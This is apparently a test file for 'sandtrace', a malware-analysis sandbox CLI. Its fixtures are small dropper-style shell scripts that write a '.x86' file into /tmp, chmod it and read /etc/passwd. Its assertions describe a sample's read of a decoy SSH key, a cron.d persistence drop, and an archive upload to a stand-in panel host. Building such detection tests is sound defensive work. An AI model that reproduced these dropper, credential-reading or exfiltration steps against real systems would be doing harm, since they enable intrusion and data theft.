    assert.match(r.stderr, /^sandtrace analyze: error: sandbox: the sample never started \(exit status \d+: .*exec format error\) \[SAMPLE_NOT_STARTED\]$/m);
    const report = JSON.parse(readFileSync(join(t.path, 'out', 'report.json'), 'utf8')) as Report;
    assert.deepEqual(report.verdict, { score: 0, label: 'unknown' });
    assert.equal(report.analysis.status, 'partial');
  } finally {
    t.cleanup();
  }
});

test('a dropper script without #! (as honeypots collect them) runs under /bin/sh, as a shell would run it: its behaviour is reported and the report says how it was started', () => {
  const t = tempDir();
  try {
    const script = join(t.path, 'bins.sh');
    writeFileSync(script, 'cd /tmp || cd /var/run\nprintf payload > .x86\nchmod +x .x86\ncat /etc/passwd >/dev/null\n');
    const out = join(t.path, 'out');
    const r = cli(['analyze', script, '--out', out, '--timeout', '20']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /^sandtrace analyze: note: the sample was run as `\/bin\/sh bins\.sh`: it is text without a #! line/m);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    assert.deepEqual(report.sample.interpreter, ['/bin/sh']);
    assert.ok(report.analysis.warnings.some((w) => w.code === 'SAMPLE_INTERPRETED'));
    const root = sampleProcess(report);
    assert.deepEqual(root?.argv, ['/bin/sh', '/tmp/bins.sh'], 'the sandbox ran /bin/sh with the script');
    assert.ok(report.processes.some((p) => /\/chmod$/.test(p.exe) && p.argv.includes('.x86')), 'the script\'s commands ran');
    assert.ok(report.dropped.some((d) => d.path === '/tmp/.x86'), 'its dropped file is listed');
    assert.notEqual(report.verdict.label, 'unknown');
  } finally {
    t.cleanup();
  }
});

test('a script saved with CRLF line ends, which the kernel cannot start, runs under the interpreter of its #! line', () => {
  const t = tempDir();
  try {
    const script = join(t.path, 'w.sh');
    writeFileSync(script, '#!/bin/sh\r\nprintf crlf > /tmp/ran\r\n', { mode: 0o755 });
    const out = join(t.path, 'out');
    const r = cli(['analyze', script, '--out', out, '--timeout', '20']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    assert.deepEqual(report.sample.interpreter, ['/bin/sh']);
    assert.match(report.analysis.warnings.find((w) => w.code === 'SAMPLE_INTERPRETED')?.message ?? '', /carriage return/);
    // sh reads the CR as part of the file name, as it would on a victim
    assert.ok(report.dropped.some((d) => d.path === '/tmp/ran\r'), JSON.stringify(report.dropped.map((d) => d.path)));
  } finally {
    t.cleanup();
  }
});

test('a Windows program is refused before any sandbox starts: one line naming what it is, exit 4, nothing written', () => {
  const t = tempDir();
  try {
    const exe = join(t.path, 'invoice.exe');
    writeFileSync(exe, Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120)]));
    const out = join(t.path, 'out');
    const r = cli(['analyze', exe, '--out', out]);
    assert.equal(r.code, 4, r.stderr);
    assert.match(assertOneLineError(r.stderr), /^sandtrace analyze: sample invoice\.exe is a Windows \(PE\/MS-DOS\) program: sandtrace runs Linux programs and scripts \[INPUT_UNSUPPORTED\]$/);
    assert.equal(existsSync(out), false, 'no output directory');
  } finally {
    t.cleanup();
  }
});

test('--interpreter runs the sample with the program given: a python payload saved as .txt', () => {
  const t = tempDir();
  try {
    const payload = join(t.path, 'notes.txt');
    writeFileSync(payload, 'import os\nopen("/tmp/py-ran", "w").write(str(os.getpid()))\n');
    const out = join(t.path, 'out');
    const r = cli(['analyze', payload, '--out', out, '--timeout', '20', '--interpreter', '/usr/bin/python3']);
    assert.equal(r.code, 0, r.stderr);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    assert.deepEqual(report.sample.interpreter, ['/usr/bin/python3']);
    assert.match(sampleProcess(report)?.exe ?? '', /python3/);
    assert.ok(report.dropped.some((d) => d.path === '/tmp/py-ran'));
    const bad = cli(['analyze', payload, '--out', join(t.path, 'o2'), '--interpreter', 'python3']);
    assert.equal(bad.code, 2);
    assert.match(assertOneLineError(bad.stderr), /--interpreter takes the absolute path of a program inside the sandbox/);
  } finally {
    t.cleanup();
  }
});

test('analyze --vm (Debian guest): a script without #! runs under /bin/sh, its file dropped within the first second is listed, the sample\'s own copy is not', async () => {
  const t = tempDir();
  try {
    const script = join(t.path, 'bins.sh');
    writeFileSync(script, 'cd /tmp\nprintf payload > .x86\nchmod +x .x86\n');
    const { report: r } = await analyze({ sample: script, outDir: join(t.path, 'out'), timeout: 30, vm: true });
    assert.equal(r.capture.backend, 'vmi');
    assert.deepEqual(r.sample.interpreter, ['/bin/sh']);
    assert.deepEqual(r.processes.find((p) => p.ppid === 0 || !r.processes.some((q) => q.pid === p.ppid))?.argv, ['/bin/sh', '/tmp/bins.sh'], 'the interpreter is the root of the captured tree');
    assert.ok(r.processes.some((p) => p.exe === '/usr/bin/chmod'), 'its commands are captured');
    assert.deepEqual(r.dropped.map((d) => [d.path, d.sha256]), [['/tmp/.x86', createHash('sha256').update('payload').digest('hex')]]);
  } finally {
    t.cleanup();
  }
});

test('the CLI prints the verdict line and writes report.json, report.html and the ATT&CK layer', () => {
  const t = tempDir();
  try {
    const r = cli(['analyze', join(ROOT, 'examples', 'dropper.sh'), '--out', t.path, '--timeout', '30']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^verdict: malicious \(score \d+\.\d\/10\), \d+ finding\(s\)/);
    for (const f of ['report.json', 'report.html', 'attack-layer.json']) assert.ok(existsSync(join(t.path, f)), f);
    const report = JSON.parse(readFileSync(join(t.path, 'report.json'), 'utf8')) as Report;
    assert.equal(report.schema, 'sandtrace.report');
    assert.ok(report.dropped.some((d) => d.path === '/etc/cron.d/update' && d.copy && existsSync(join(t.path, d.copy))));
    // the upload to the panel over HTTPS: looked up at the sinkhole, caught, decrypted (curl -k), the request listed and judged
    const upload = report.sessions?.find((c) => c.domain === 'cdn-update.example.test');
    assert.deepEqual(upload && [upload.port, upload.protocol, upload.sni, upload.http?.method, upload.http?.path, upload.http?.host, upload.decrypted !== undefined],
      [443, 'tls', 'cdn-update.example.test', 'POST', '/panel/gate.php?id=devbox', 'cdn-update.example.test', true], JSON.stringify(report.sessions));
    assert.match(report.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /uri=\/panel\/gate\.php\?id=devbox .*protocol=tls body_bytes=\d+ body_sha256=[0-9a-f]{64} .*process=curl\)$/);
    // what was uploaded is the archive the dropper made: the body's SHA-256 is the dropped file's
    const archive = report.dropped.find((d) => d.path === '/tmp/.cache/loot.tgz');
    assert.ok(archive?.sha256, JSON.stringify(report.dropped));
    assert.deepEqual(upload?.http?.body && [upload.http.body.bytes, upload.http.body.sha256, upload.http.body.incomplete], [archive.size, archive.sha256, undefined]);
    assert.deepEqual(report.indicators?.hashes.filter((h) => h.sha256 === archive.sha256).map((h) => [h.source, h.name]),
      [['dropped', '/tmp/.cache/loot.tgz'], ['upload', 'https://cdn-update.example.test/panel/gate.php?id=devbox']]);
  } finally {
    t.cleanup();
  }
});

test('analyze --vm: the same sample in a QEMU guest gives the same report facts, captured agentlessly', async () => {
  const t = tempDir();
  try {
    const { report: r } = await analyze({ sample: sample('read_secrets.sh'), outDir: t.path, timeout: 60, vm: true });
    assert.equal(r.capture.backend, 'vmi');
    assert.equal(r.analysis.isolation.kind, 'vm');
    assert.equal(r.capture.lost, 0);
    assert.ok(file(r, '/home/user/.ssh/id_rsa')?.ops.includes('read'), 'the decoy key read is seen from the hypervisor');
    assert.ok(r.findings.some((f) => f.attack.some((a) => a.startsWith('T1552'))));
    const root = r.processes.find((p) => p.exe.endsWith('/read_secrets.sh'));
    assert.ok(root, 'the sample is the root of the reported tree');
    assert.ok(r.processes.filter((p) => p.ppid === root.pid).some((p) => p.exe === '/usr/bin/cat'), 'its children are attributed to it');
    assert.ok(!r.processes.some((p) => /init|udev|getty/.test(p.exe)), 'guest boot noise is kept out');
  } finally {
    t.cleanup();
  }
});
